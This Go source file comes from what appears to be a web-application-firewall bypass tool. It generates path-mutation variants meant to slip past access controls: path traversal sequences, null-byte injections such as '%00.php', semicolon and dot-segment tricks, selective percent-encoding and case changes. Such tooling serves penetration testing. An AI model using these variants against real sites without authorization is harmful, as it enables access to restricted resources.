// Package strategy implements the pure bypass-variant generators: each
// function takes a path, string, or request shape and returns an ordered,
// deterministic sequence of candidate variants. None of them dial a
// network or hold state beyond an explicit RNG seed.
package strategy

import (
	"strings"

	"github.com/corvidsec/waflex/internal/urlmodel"
)

// PathVariants returns the fixed-order sequence of path mutations described
// for the path-bypass technique. The strategy does not deduplicate or
// re-parse its output; callers that need deduplication must preserve
// first-occurrence order when doing so.
func PathVariants(path string) []string {
	var out []string

	// 1. Trailing-slash.
	if !strings.HasSuffix(path, "/") {
		out = append(out, path+"/", path+"//", path+"/.", path+"/./")
	} else if len(path) > 1 {
		out = append(out, strings.TrimSuffix(path, "/"))
	}

	// 2. Char-substitution URL-encoding: encode only {e,E,n,N,v,V}.
	if sub := substituteEncodedChars(path); sub != path {
		out = append(out, sub)
	}

	// 3. Case-variants.
	out = append(out, urlmodel.GenerateCaseVariations(path)...)

	// 4. Path traversal.
	if strings.HasPrefix(path, "/") {
		tail := path[1:]
		out = append(out,
			"/."+path,
			"/./"+tail,
			"/./."+path,
			"/../"+tail,
		)
		for _, prefix := range []string{"allowed", "public", "static"} {
			out = append(out, "/"+prefix+"/.."+path)
		}
	}

	// 5. Null-byte injection.
	out = append(out, path+"%00", path+"%00.jpg", path+"%00.php", path+"%00.html", path+"\x00")

	// 6. Dot-segments (path assumed to start with "/").
	if strings.HasPrefix(path, "/") {
		tail := path[1:]
		out = append(out,
			"/."+tail,
			"/./"+tail,
			"/././"+tail,
			"/../"+tail,
		)
	}

	// 7. Semicolon bypass.
	out = append(out, path+";", path+";/", path+";x", path+";.jpg")

	// 8. Percent-encoded dots.
	if strings.HasPrefix(path, "/") {
		tail := path[1:]
		out = append(out, "/%2e/"+tail, "/%2e%2e/"+tail)
	}

	return out
}

// substituteEncodedChars percent-encodes only the letters e, E, n, N, v, V
// in s, preserving every other byte (including a leading '/') untouched.
// Hex digits are lowercase ("%6e", not "%6E") to match path_bypass.cpp's
// output byte-for-byte.
func substituteEncodedChars(s string) string {
	var b strings.Builder
	for i := 0; i < len(s); i++ {
		c := s[i]
		switch c {
		case 'e', 'E', 'n', 'N', 'v', 'V':
			b.WriteByte('%')
			b.WriteByte(lowerHex(c >> 4))
			b.WriteByte(lowerHex(c & 0xf))
		default:
			b.WriteByte(c)
		}
	}
	return b.String()
}

func lowerHex(nibble byte) byte {
	const digits = "0123456789abcdef"
	return digits[nibble&0xf]
}
